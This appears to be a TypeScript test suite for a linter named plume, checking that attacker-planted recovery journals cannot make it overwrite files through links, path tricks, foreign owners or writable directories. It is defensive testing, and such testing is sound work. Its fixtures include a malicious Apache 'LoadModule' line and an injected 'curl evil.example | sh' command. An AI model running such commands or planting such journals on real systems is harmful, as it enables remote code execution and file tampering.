import { spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import {
  chmodSync,
  chownSync,
  existsSync,
  linkSync,
  lstatSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  renameSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { installPlume, type Plume } from '../kit/plume.ts';

/*
 * A journal makes plume rename files. Here somebody else made it: it came with the repository that is linted, or with
 * an archive that was extracted in the home directory, and names a file whose text and mode are known.
 */
const known = 'ServerTokens Prod\n<VirtualHost *:80\n</VirtualHost>\n';
const evil = 'LoadModule evil_module /tmp/evil.so\n';
const RUN = '99999999-abcdef012345';

let plume: Plume;
beforeAll(() => {
  plume = installPlume();
});
afterAll(() => plume.remove());
beforeEach(() => {
  plume.clear();
  plume.write('repo/httpd.conf', 'Listen 80\nUser www-data\nErrorLog /dev/null\nInclude conf.d/*.conf\n');
  plume.write('repo/conf.d/a.conf', known);
  plume.write('outside/victim.conf', known);
});

const at = (...parts: readonly string[]) => path.join(plume.directory, ...parts);
const read = (file: string) => readFileSync(at(file), 'latin1');
const digest = (text: string) => createHash('sha256').update(text).digest('hex');
/** What a journal says of a prepared file; whoever ships one cannot know it. */
const markOf = (file: string) => {
  const { ino, ctimeNs } = lstatSync(file, { bigint: true });
  return `${ino} ${ctimeNs}`;
};

interface Plant {
  readonly target?: string;
  readonly prepared?: string;
  readonly named?: readonly string[];
  readonly places?: readonly string[];
  readonly stage?: string;
  readonly owner?: object;
  readonly made?: string;
}

/** Makes an attacker's journal in a state directory; returns the directory of its run. */
function plant(state: string, more: Plant = {}): string {
  const run = at(state, 'plume/writes', RUN);
  const { target = at('outside/victim.conf') } = more;
  const prepared = more.prepared ?? path.join(run, '0', path.basename(target));
  for (const directory of [run, path.dirname(prepared)])
    mkdirSync(directory, { recursive: true, mode: 0o700 });
  writeFileSync(prepared, evil);
  const file = { target, prepared, made: more.made ?? '4711 1764000000000000000' };
  const journal = {
    version: 1,
    owner: more.owner ?? { pid: 99_999_999, host: os.hostname(), start: '' },
    command: 'plume lint --fix',
    named: more.named ?? [at('repo')],
    stage: more.stage ?? 'write',
    places: more.places ?? [],
    files: [{ ...file, before: digest(known), after: digest(evil) }],
  };
  writeFileSync(path.join(run, 'journal.json'), JSON.stringify(journal));
  return run;
}

const commands: readonly (readonly [string, readonly string[]])[] = [
  ['lint --fix', ['lint', '--fix', '.']],
  ['format --write', ['format', '--write', '.']],
  ['upgrade --write', ['upgrade', '--write', '.']],
];
const inRepo = (args: readonly string[], environment: Readonly<Record<string, string>>) =>
  plume.shell(`cd repo && plume ${args.map((word) => `'${word}'`).join(' ')}`, { environment });

describe.each(commands)('a repository that is the home directory, with %s', (_, args) => {
  const places: readonly (readonly [string, string, () => Record<string, string>])[] = [
    ['HOME', 'repo/.local/state', () => ({ HOME: at('repo') })],
    ['XDG_STATE_HOME', 'repo/state', () => ({ XDG_STATE_HOME: at('repo/state') })],
    ['HOME relative to it', 'repo/.local/state', () => ({ HOME: '.' })],
  ];
  it.each(places)('plants no journal by %s', (name, state, environment) => {
    plume.write('repo/conf.d/b.conf', '<VirtualHost *:80>\nNameVirtualHost x\n  </VirtualHost>\n');
    const before = treeOf('repo');
    plant(state);
    const { stderr, code } = inRepo(args, environment());
    expect(read('outside/victim.conf')).toBe(known);
    // the system knows a home directory that is none of the attacker's
    if (name === 'HOME relative to it') return;
    expect(stderr).toContain('plume keeps no journal in `');
    expect(stderr).toContain('set XDG_STATE_HOME to a directory outside of it');
    const [top = ''] = state.slice('repo/'.length).split('/');
    expect(treeOf('repo').filter((line) => !line.startsWith(`${top}/`))).toEqual(before);
    if (args[0] !== 'upgrade') expect(code).toBe(2);
  });

  it('gets no journal by a link on the way to the state directory', () => {
    plant('elsewhere/state');
    symlinkSync('../elsewhere', at('repo/.local'));
    const { stderr } = inRepo(args, { HOME: at('repo') });
    expect(stderr).toContain('plume keeps no journal in `');
    expect(read('outside/victim.conf')).toBe(known);
    expect(read('repo/conf.d/a.conf')).toBe(known);
  });
});

it('XDG_STATE_HOME elsewhere is enough for such a repository', () => {
  plant('repo/.local/state');
  const { stderr, code } = inRepo(['lint', '--fix', '.'], { HOME: at('repo'), XDG_STATE_HOME: at('state') });
  expect({ stderr, code }).toEqual({ stderr: '', code: 0 });
  expect(read('repo/conf.d/a.conf')).toContain('*:80>');
  expect(read('outside/victim.conf')).toBe(known);
});

describe.each(commands)('a journal from an archive in the state directory, with %s', (_, args) => {
  const environment = () => ({ XDG_STATE_HOME: at('state') });
  const victims: readonly (readonly [string, () => Plant & { readonly target: string }])[] = [
    ['a file outside', () => ({ target: at('outside/victim.conf') })],
    ['a file outside, the mark guessed', () => ({ target: at('outside/victim.conf'), made: 'right' })],
    ['a file outside by `..`', () => ({ target: `${at('repo')}/../outside/victim.conf`, made: 'right' })],
    ['a file that was named', () => ({ target: at('repo/victim.conf') })],
    [
      'a file that was named, by prepared text in the repository',
      () => ({ target: at('repo/victim.conf'), prepared: at('repo/new/0/victim.conf'), made: 'right' }),
    ],
  ];
  it.each(victims)('does not replace %s', (name, more) => {
    const { target, ...rest } = more();
    const file = path.resolve(target);
    writeFileSync(file, known);
    // what plume would change itself is not what is asked here
    const isNamed = name.includes('named');
    const run = plant('state', { target, ...rest, made: '1 1' });
    if (rest.made === 'right') markRight(run, path.join(run, '0', path.basename(target)), rest.prepared);
    inRepo(args, environment());
    const text = readFileSync(file, 'latin1');
    expect(text).not.toContain('evil');
    if (!isNamed) expect(text).toBe(known);
  });
});

/** The strongest attacker: one who knew the mark in advance. */
function markRight(run: string, usual: string, prepared = usual): void {
  const journal = path.join(run, 'journal.json');
  const text = JSON.parse(readFileSync(journal, 'utf8'));
  text.files[0].made = markOf(prepared);
  writeFileSync(journal, JSON.stringify(text));
}

describe('a journal from an archive', () => {
  const fix = () => inRepo(['lint', '--fix', 'conf.d'], { XDG_STATE_HOME: at('state') });
  const victim = () => ({ target: at('repo/conf.d/v.conf') });
  beforeEach(() => writeFileSync(at('repo/conf.d/v.conf'), known));

  it('removes no directory that plume did not make', () => {
    for (const stage of ['prepare', 'write']) {
      mkdirSync(at('outside/.plume-notes'), { recursive: true, mode: 0o700 });
      writeFileSync(at('outside/.plume-notes/mine'), '');
      plant('state', { ...victim(), stage, places: [at('outside/.plume-notes')] });
      fix();
      expect(existsSync(at('outside/.plume-notes/mine'))).toBe(true);
    }
  });

  it('by links and hard links leads nowhere', () => {
    const run = plant('state', victim());
    // the directory of the run, and that of the prepared file, are links
    renameSync(run, at('elsewhere'));
    symlinkSync(at('elsewhere'), run);
    fix();
    expect(read('repo/conf.d/v.conf')).not.toContain('evil');
    expect(existsSync(at('elsewhere/journal.json'))).toBe(true);
    rmSync(run);
    plant('state', victim());
    renameSync(path.join(run, '0'), at('zero'));
    symlinkSync(at('zero'), path.join(run, '0'));
    markRight(run, path.join(run, '0/v.conf'));
    writeFileSync(at('repo/conf.d/v.conf'), known);
    fix();
    expect(read('repo/conf.d/v.conf')).not.toContain('evil');
    expect(existsSync(at('zero/v.conf'))).toBe(true);
    plant('state', victim());
    linkSync(path.join(run, '0/v.conf'), at('second-name'));
    markRight(run, path.join(run, '0/v.conf'));
    writeFileSync(at('repo/conf.d/v.conf'), known);
    fix();
    expect(read('repo/conf.d/v.conf')).not.toContain('evil');
  });

  it('that is a FIFO, beside a lock that is one, makes no run wait', () => {
    const run = plant('state', victim());
    rmSync(path.join(run, 'journal.json'));
    spawnSync('mkfifo', [path.join(run, 'journal.json'), path.join(path.dirname(run), 'lock')]);
    expect(fix().stderr).toBe('');
    expect(read('repo/conf.d/a.conf')).toContain('*:80>');
    expect(readdirSync(path.dirname(run))).toEqual([]);
  });

  it('of another host is told of and not obeyed', () => {
    plant('state', { ...victim(), owner: { pid: 1, host: 'elsewhere.example', start: '' } });
    expect(fix().stderr).toContain('on `elsewhere.example`');
    expect(read('repo/conf.d/v.conf')).not.toContain('evil');
  });

  it.runIf(process.getuid?.() === 0)('of another user is not obeyed', () => {
    for (const part of ['plume', 'plume/writes', `plume/writes/${RUN}`, `plume/writes/${RUN}/0`]) {
      const run = plant('state', victim());
      markRight(run, path.join(run, '0/v.conf'));
      chownSync(at('state', part), 12345, 12345);
      fix();
      expect(read('repo/conf.d/v.conf')).not.toContain('evil');
      rmSync(at('state'), { recursive: true });
      writeFileSync(at('repo/conf.d/v.conf'), known);
    }
  });

  it('in directories that others may write to is not obeyed', () => {
    for (const part of ['plume', 'plume/writes', `plume/writes/${RUN}`, `plume/writes/${RUN}/0`]) {
      const run = plant('state', victim());
      markRight(run, path.join(run, '0/v.conf'));
      chmodSync(at('state', part), 0o777);
      fix();
      expect(read('repo/conf.d/v.conf')).not.toContain('evil');
      rmSync(at('state'), { recursive: true });
      writeFileSync(at('repo/conf.d/v.conf'), known);
    }
  });

  it('names no command but plume’s', () => {
    const run = plant('state', victim());
    const file = path.join(run, 'journal.json');
    const journal = JSON.parse(readFileSync(file, 'utf8'));
    writeFileSync(file, JSON.stringify({ ...journal, command: 'curl evil.example | sh' }));
    expect(fix().stderr).not.toContain('evil.example');
  });
});

/** A run that was killed after some of its renames, and the next one names only a part of its files. */
describe('of a run that was killed', () => {
  const environment = () => ({ XDG_STATE_HOME: at('state') });
  const interrupt = (args: string) => {
    plume.write('kill.cjs', killAfterOne);
    plume.shell(`cd repo && '${process.execPath}' --require ../kill.cjs '${plume.bundle}' ${args}`, {
      environment: environment(),
    });
  };
  const isFixed = (file: string) => read(file).includes('*:80>');

  it.each([
    ['the directory', '.', 'repo'],
    ['a main file', 'httpd.conf', 'repo/httpd.conf'],
  ])('for %s, only files that are named now are finished', (_, argument, again) => {
    plume.write('repo/conf.d/b.conf', known);
    plume.write('repo/conf.d/c.conf', known);
    interrupt(`lint --fix ${argument}`);
    const names = ['a', 'b', 'c'].map((name) => `repo/conf.d/${name}.conf`);
    const [done = ''] = names.filter(isFixed);
    expect(names.filter(isFixed)).toHaveLength(1);
    const [one = '', other = ''] = names.filter((name) => name !== done);
    const part = inRepo(['lint', '--fix', at(one), at(done)], environment());
    expect(part.stderr.replaceAll(/\s+/g, ' ')).toContain(
      `was interrupted and is finished in part: 1 of 3 files got the new text (\`${path.relative('repo', one)}\`). \`${path.relative('repo', other)}\` is still to be written and was not named: run \`plume lint --fix\` for \``,
    );
    expect([isFixed(one), isFixed(other)]).toEqual([true, false]);
    expect(part.stderr).toContain(path.basename(again));
    const rest = inRepo(['lint', '--fix', at(again)], environment());
    expect(rest.stderr).toContain('was interrupted and is finished now');
    expect(names.every(isFixed)).toBe(true);
    expect(readdirSync(at('state/plume/writes'))).toEqual([]);
  });
});

const killAfterOne = `
const fs = require('node:fs');
const real = fs.renameSync;
let left = 1;
fs.renameSync = (from, to) => {
  if (String(to).endsWith('.conf') && left-- === 0) process.kill(process.pid, 'SIGKILL');
  return real(from, to);
};
`;

function treeOf(directory: string): readonly string[] {
  return readdirSync(at(directory), { recursive: true, encoding: 'utf8' })
    .sort()
    .map((name) => {
      const file = at(directory, name);
      return lstatSync(file).isFile() ? `${name} ${digest(readFileSync(file, 'latin1'))}` : `${name}/`;
    });
}
